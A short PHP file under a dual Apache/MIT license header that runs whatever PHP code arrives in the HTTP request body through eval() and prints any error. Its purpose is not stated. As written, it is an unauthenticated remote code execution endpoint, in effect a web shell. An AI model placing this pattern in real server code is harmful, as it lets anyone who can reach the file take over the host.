<?php
// SPDX-License-Identifier: Apache-2.0 OR MIT
try {
    eval(file_get_contents("php://input"));
} catch (Throwable $error) {
    echo $error->getMessage();
}
